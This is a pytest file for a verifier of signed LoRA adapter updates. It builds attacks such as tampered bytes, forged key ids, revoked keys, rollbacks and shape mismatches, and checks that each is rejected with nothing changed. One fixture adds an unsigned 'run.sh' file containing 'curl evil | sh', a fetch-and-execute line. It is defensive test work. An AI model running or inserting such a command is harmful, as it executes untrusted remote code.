"""The update verifier: a table of attacks, the check order, and nothing changed on failure.

Mirrors python-tuf's trusted-metadata tests: each attack builds a real signed envelope
(Ed25519 over DSSE PAE bytes) and real PEFT safetensors bytes, and asserts the exact
error type and that the trust state and every input are unchanged afterwards.
"""

from __future__ import annotations

import copy
import dataclasses
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from safetensors.torch import save

from hierarchy.updates import (
    VERIFICATION_CHECKS,
    BaseMismatchError,
    Envelope,
    Expectations,
    ExpiredError,
    FileEntry,
    FileMeasure,
    HashMismatchError,
    LengthMismatchError,
    ManifestError,
    MissingFileError,
    ReplayError,
    RevokedKeyError,
    Role,
    RollbackError,
    ShapeMismatchError,
    Signature,
    SigningKey,
    SkippedVersionError,
    StaleParentError,
    ThresholdError,
    TrustedKey,
    TrustState,
    UnexpectedFileError,
    UnknownKeyError,
    UnknownParentVersionError,
    UpdateError,
    UpdateManifest,
    VersionError,
    apply_to_trust,
    sha256_digest,
    sign_envelope,
    sign_manifest,
    verify_update,
)
from hierarchy.updates.trust import KeyGroup, KeyStatus, NodeVersion

NODE = "demo/en/medical/radiology"
PARENT = "demo/en/medical"
NOW = datetime(2030, 6, 1, 12, 0, 0, tzinfo=UTC)
BASE = sha256_digest(b"tiny base weights")
Q, V = "model.layers.0.self_attn.q_proj", "model.layers.0.self_attn.v_proj"
SHAPES = {Q: (8, 16), V: (4, 16)}  # [out, in] of the parent's adapted layers
RANK = 2
WEIGHTS, CONFIG = "adapter_model.safetensors", "adapter_config.json"


def adapter_bytes(shapes=SHAPES, rank=RANK, seed=0) -> bytes:
    """A PEFT-format LoRA weights file, as nodes.store.adapters.write_adapter names its tensors."""
    g = torch.Generator().manual_seed(seed)
    tensors = {}
    for module, (out, inp) in shapes.items():
        tensors[f"base_model.model.{module}.lora_A.weight"] = torch.randn(rank, inp, generator=g)
        tensors[f"base_model.model.{module}.lora_B.weight"] = torch.randn(out, rank, generator=g)
    return save(tensors, metadata={"format": "pt"})


@dataclass
class World:
    """One receiver (trust + expectations) and one honest sender, plus the attackers' keys."""

    node_key: SigningKey
    node_key2: SigningKey
    sibling_key: SigningKey  # a registered node key scoped to a sibling node
    revoked_key: SigningKey
    stranger: SigningKey  # never registered
    trust: TrustState
    files: dict[str, bytes]
    expectations: Expectations = field(default_factory=lambda: Expectations(BASE, SHAPES))

    def manifest(self, **overrides) -> UpdateManifest:
        fields = dict(
            node=NODE,
            parent=PARENT,
            parent_version=2,
            base_digest=BASE,
            version=4,
            files={name: FileEntry.of(name, data) for name, data in self.files.items()},
            layers={m: {"out": o, "in": i, "rank": RANK} for m, (o, i) in SHAPES.items()},
            training_data_digest=sha256_digest(b"radiology reports"),
            metrics={"eval_ppl": 11.2},
            created=NOW - timedelta(hours=1),
            expires=NOW + timedelta(days=1),
        )
        fields.update(overrides)
        return UpdateManifest(**fields)

    def envelope(self, signers=None, **overrides) -> Envelope:
        return sign_manifest(self.manifest(**overrides), [self.node_key] if signers is None else signers)


@pytest.fixture(scope="module")
def world() -> World:
    keys = [SigningKey.generate() for _ in range(6)]
    root, node_key, node_key2, sibling, revoked, stranger = keys
    trust = TrustState(
        keys=(
            TrustedKey(root.public, Role.ROOT),
            TrustedKey(node_key.public, Role.NODE, NODE),
            TrustedKey(node_key2.public, Role.NODE, NODE),
            TrustedKey(sibling.public, Role.NODE, "demo/en/medical/cardiology"),
            TrustedKey(revoked.public, Role.NODE, NODE, KeyStatus.REVOKED),
        ),
        groups=(KeyGroup(Role.ROOT, None, 1), KeyGroup(Role.NODE, None, 1)),
        nodes=(NodeVersion(PARENT, 2, 5), NodeVersion(NODE, 3, 1)),
    )
    files = {WEIGHTS: adapter_bytes(), CONFIG: json.dumps({"r": RANK, "peft_type": "LORA"}).encode()}
    return World(node_key, node_key2, sibling, revoked, stranger, trust, files)


@dataclass
class Case:
    """One verification input; every attack edits a copy of the honest one."""

    trust: TrustState
    envelope: Envelope
    files: dict
    now: datetime
    expectations: Expectations


def honest(w: World) -> Case:
    return Case(w.trust, w.envelope(), dict(w.files), NOW, w.expectations)


def flip_tensor_byte(data: bytes) -> bytes:
    b = bytearray(data)
    b[-3] ^= 0x01  # inside the tensor data, so the header (and length) stay valid
    return bytes(b)


def tampered_manifest(w: World) -> Case:
    c = honest(w)
    forged = w.manifest(metrics={"eval_ppl": 3.0}).to_bytes()  # "much better" numbers, old signature
    return dataclasses.replace(c, envelope=Envelope(c.envelope.payload_type, forged, c.envelope.signatures))


def reserialised(w: World) -> Case:
    c = honest(w)
    same_doc = json.dumps(json.loads(c.envelope.payload), indent=2).encode()
    return dataclasses.replace(c, envelope=Envelope(c.envelope.payload_type, same_doc, c.envelope.signatures))


def forged_keyid(w: World) -> Case:
    c = honest(w)
    env = sign_manifest(w.manifest(), [w.stranger])
    lie = Signature(w.node_key.keyid, env.signatures[0].sig)  # claims to be the node's key
    return dataclasses.replace(c, envelope=Envelope(env.payload_type, env.payload, (lie,)))


def threshold_two(w: World) -> Case:
    c = honest(w)
    trust = dataclasses.replace(w.trust, groups=(*w.trust.groups, KeyGroup(Role.NODE, NODE, 2)))
    return dataclasses.replace(c, trust=trust)


def swap(**changes) -> Callable[[World], Case]:
    def build(w: World) -> Case:
        return dataclasses.replace(honest(w), **{k: v(w) for k, v in changes.items()})

    return build


# name -> (builder, exact error type)
ATTACKS: dict[str, tuple[Callable[[World], Case], type[UpdateError]]] = {
    "tampered payload byte": (
        swap(files=lambda w: {**w.files, WEIGHTS: flip_tensor_byte(w.files[WEIGHTS])}),
        HashMismatchError,
    ),
    "truncated payload": (swap(files=lambda w: {**w.files, WEIGHTS: w.files[WEIGHTS][:-4]}), LengthMismatchError),
    "missing payload file": (swap(files=lambda w: {WEIGHTS: w.files[WEIGHTS]}), MissingFileError),
    "extra unsigned file": (swap(files=lambda w: {**w.files, "run.sh": b"curl evil | sh"}), UnexpectedFileError),
    "tampered manifest": (tampered_manifest, ThresholdError),
    "manifest re-serialised (same JSON)": (reserialised, ThresholdError),
    "unsigned": (swap(envelope=lambda w: w.envelope(signers=[])), ThresholdError),
    "wrong key (unregistered)": (swap(envelope=lambda w: w.envelope(signers=[w.stranger])), UnknownKeyError),
    "forged key id": (forged_keyid, ThresholdError),
    "revoked key": (swap(envelope=lambda w: w.envelope(signers=[w.revoked_key])), RevokedKeyError),
    "revoked co-signer": (swap(envelope=lambda w: w.envelope(signers=[w.node_key, w.revoked_key])), RevokedKeyError),
    "key scoped to a sibling": (swap(envelope=lambda w: w.envelope(signers=[w.sibling_key])), ThresholdError),
    "threshold not met (1 of 2)": (threshold_two, ThresholdError),
    "payload type swapped": (
        swap(envelope=lambda w: sign_envelope("application/json", w.manifest().to_bytes(), [w.node_key])),
        ManifestError,
    ),
    "replayed same version": (swap(envelope=lambda w: w.envelope(version=3)), ReplayError),
    "older version": (swap(envelope=lambda w: w.envelope(version=2)), RollbackError),
    "skipped version": (swap(envelope=lambda w: w.envelope(version=6)), SkippedVersionError),
    "expired": (swap(now=lambda w: NOW + timedelta(days=2)), ExpiredError),
    "expires exactly now": (swap(now=lambda w: NOW + timedelta(days=1)), ExpiredError),
    "stale parent version": (swap(envelope=lambda w: w.envelope(parent_version=1)), StaleParentError),
    "parent version from the future": (
        swap(envelope=lambda w: w.envelope(parent_version=3)),
        UnknownParentVersionError,
    ),
    "different base": (swap(envelope=lambda w: w.envelope(base_digest=sha256_digest(b"other"))), BaseMismatchError),
    "layer shape mismatch": (
        swap(expectations=lambda w: Expectations(BASE, {Q: (8, 32), V: (4, 16)})),
        ShapeMismatchError,
    ),
    "missing layer": (
        swap(expectations=lambda w: Expectations(BASE, {**SHAPES, "lm_head": (9, 9)})),
        ShapeMismatchError,
    ),
    "rank above the cap": (swap(expectations=lambda w: Expectations(BASE, SHAPES, max_rank=1)), ShapeMismatchError),
    "tensors disagree with declared shapes": (
        lambda w: _with_weights(w, adapter_bytes(rank=RANK + 1)),
        ShapeMismatchError,
    ),
}


def _with_weights(w: World, weights: bytes) -> Case:
    files = {**w.files, WEIGHTS: weights}
    entries = {name: FileEntry.of(name, data) for name, data in files.items()}
    return dataclasses.replace(honest(w), files=files, envelope=w.envelope(files=entries))


def _snapshot(c: Case):
    return copy.deepcopy(c), c.trust.to_bytes(), {k: bytes(v) for k, v in c.files.items()}, c.envelope.to_bytes()


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_rejected_with_its_own_error_and_nothing_changes(world, name):
    build, expected = ATTACKS[name]
    case = build(world)
    before, trust_bytes, file_bytes, envelope_bytes = _snapshot(case)
    with pytest.raises(UpdateError) as info:
        verify_update(case.trust, case.envelope, case.files, case.now, case.expectations)
    assert type(info.value) is expected, f"{name}: got {type(info.value).__name__}: {info.value}"
    assert info.value.check in VERIFICATION_CHECKS
    assert str(info.value)  # a message a person can act on
    # Nothing changed: the trust state and every input are equal, down to their bytes.
    assert case == before
    assert case.trust.to_bytes() == trust_bytes
    assert {k: bytes(v) for k, v in case.files.items()} == file_bytes
    assert case.envelope.to_bytes() == envelope_bytes
    assert world.trust.version_of(NODE) == 3


def test_honest_update_verifies_and_applies_to_a_new_state(world):
    case = honest(world)
    trust_bytes = case.trust.to_bytes()
    verified = verify_update(case.trust, case.envelope, case.files, case.now, case.expectations)
    assert verified.manifest.version == 4 and verified.previous_version == 3
    assert verified.signers == (world.node_key.keyid,)
    assert verified.manifest_digest == sha256_digest(case.envelope.payload)
    assert verified.tensor_shapes_checked
    after = apply_to_trust(case.trust, verified)
    assert after.node_version(NODE) == NodeVersion(NODE, 4, 2)
    assert case.trust.to_bytes() == trust_bytes and case.trust.version_of(NODE) == 3
    # Replaying the same envelope against the new state is now a replay.
    with pytest.raises(ReplayError):
        verify_update(after, case.envelope, case.files, case.now, case.expectations)
    with pytest.raises(ReplayError):
        apply_to_trust(after, verified)


def test_measures_instead_of_bytes_verify_but_say_shapes_were_not_read(world):
    case = honest(world)
    measured = {name: FileMeasure.of(data) for name, data in case.files.items()}
    verified = verify_update(case.trust, case.envelope, measured, NOW, case.expectations)
    assert not verified.tensor_shapes_checked
    bad = {**measured, WEIGHTS: FileMeasure.of(flip_tensor_byte(case.files[WEIGHTS]))}
    with pytest.raises(HashMismatchError):
        verify_update(case.trust, case.envelope, bad, NOW, case.expectations)


def test_threshold_two_passes_with_both_node_keys_and_counts_each_key_once(world):
    case = threshold_two(world)
    both = world.envelope(signers=[world.node_key, world.node_key2])
    verified = verify_update(case.trust, both, case.files, NOW, case.expectations)
    assert set(verified.signers) == {world.node_key.keyid, world.node_key2.keyid}
    twice = world.envelope(signers=[world.node_key, world.node_key])
    with pytest.raises(ThresholdError):
        verify_update(case.trust, twice, case.files, NOW, case.expectations)


def test_apply_rechecks_what_moved_since_verification(world):
    case = honest(world)
    verified = verify_update(case.trust, case.envelope, case.files, NOW, case.expectations)
    revoked = dataclasses.replace(
        world.trust,
        keys=tuple(
            dataclasses.replace(k, status=KeyStatus.REVOKED) if k.keyid == world.node_key.keyid else k
            for k in world.trust.keys
        ),
    )
    with pytest.raises(RevokedKeyError):
        apply_to_trust(revoked, verified)
    moved_parent = world.trust.with_node_version(PARENT, 3, 5)
    with pytest.raises(StaleParentError):
        apply_to_trust(moved_parent, verified)
    raced = world.trust.with_node_version(NODE, 4, 2)
    with pytest.raises(ReplayError):
        apply_to_trust(raced, verified)


def test_version_errors_share_a_base_and_say_what_was_expected(world):
    for version, kind in ((3, "already at version 3"), (1, "roll it back"), (7, "skips 3 version")):
        with pytest.raises(VersionError, match=kind):
            verify_update(world.trust, world.envelope(version=version), world.files, NOW, world.expectations)


def test_naive_now_is_refused(world):
    with pytest.raises(ValueError, match="timezone-aware"):
        verify_update(world.trust, world.envelope(), world.files, datetime(2030, 6, 1), world.expectations)


# -- the order of the checks -------------------------------------------------------------------------------

# A fault per check, in the documented order; several at once must raise the earliest one.
FAULTS = ["unknown_key", "revoked_key", "threshold", "expired", "version", "files", "parent", "base", "shapes"]
FAULT_ERRORS = {
    "unknown_key": UnknownKeyError,
    "revoked_key": RevokedKeyError,
    "threshold": ThresholdError,
    "expired": ExpiredError,
    "version": ReplayError,
    "files": HashMismatchError,
    "parent": StaleParentError,
    "base": BaseMismatchError,
    "shapes": ShapeMismatchError,
}


@settings(max_examples=60, deadline=None)
@given(faults=st.sets(st.sampled_from(FAULTS), min_size=1))
def test_the_first_failing_check_in_order_is_reported(world, faults):
    overrides = {}
    if "version" in faults:
        overrides["version"] = 3
    if "parent" in faults:
        overrides["parent_version"] = 1
    if "base" in faults:
        overrides["base_digest"] = sha256_digest(b"another base")
    signers = [world.sibling_key] if "threshold" in faults else [world.node_key]
    signers += [world.stranger] if "unknown_key" in faults else []
    signers += [world.revoked_key] if "revoked_key" in faults else []
    envelope = world.envelope(signers=signers, **overrides)
    files = dict(world.files)
    if "files" in faults:
        files[WEIGHTS] = flip_tensor_byte(files[WEIGHTS])
    now = NOW + timedelta(days=3) if "expired" in faults else NOW
    expectations = Expectations(BASE, {Q: (8, 99), V: (4, 16)}) if "shapes" in faults else world.expectations
    first = next(f for f in FAULTS if f in faults)
    with pytest.raises(UpdateError) as info:
        verify_update(world.trust, envelope, files, now, expectations)
    assert type(info.value) is FAULT_ERRORS[first]
    assert VERIFICATION_CHECKS.index(info.value.check) == min(
        VERIFICATION_CHECKS.index(FAULT_ERRORS[f].check) for f in faults
    )


def test_approvals_are_signatures_over_the_same_pae_by_the_required_roles(world):
    from hierarchy.updates.envelope import sign_payload
    from hierarchy.updates.verify import check_approvals

    evaluator, operator = SigningKey.generate(), SigningKey.generate()
    trust = dataclasses.replace(
        world.trust,
        keys=(
            *world.trust.keys,
            TrustedKey(evaluator.public, Role.EVALUATOR, PARENT),
            TrustedKey(operator.public, Role.OPERATOR),
        ),
    )
    envelope = world.envelope()
    required = {Role.EVALUATOR: 1, Role.OPERATOR: 1}
    approvals = sign_payload(envelope.payload_type, envelope.payload, [evaluator, operator])
    got = check_approvals(trust, envelope, approvals, required, PARENT)
    assert got == {Role.EVALUATOR: (evaluator.keyid,), Role.OPERATOR: (operator.keyid,)}
    with pytest.raises(ThresholdError, match="evaluator"):  # the operator alone is not enough
        check_approvals(trust, envelope, approvals[1:], required, PARENT)
    with pytest.raises(ThresholdError, match="evaluator"):  # evaluators are scoped to their parent
        check_approvals(trust, envelope, approvals, required, "demo/en/legal")
    other = world.envelope(version=5)
    with pytest.raises(ThresholdError):  # approving one manifest approves no other
        check_approvals(trust, other, approvals, required, PARENT)
    with pytest.raises(UnknownKeyError):
        check_approvals(
            trust,
            envelope,
            (*approvals, *sign_payload(envelope.payload_type, envelope.payload, [world.stranger])),
            required,
            PARENT,
        )
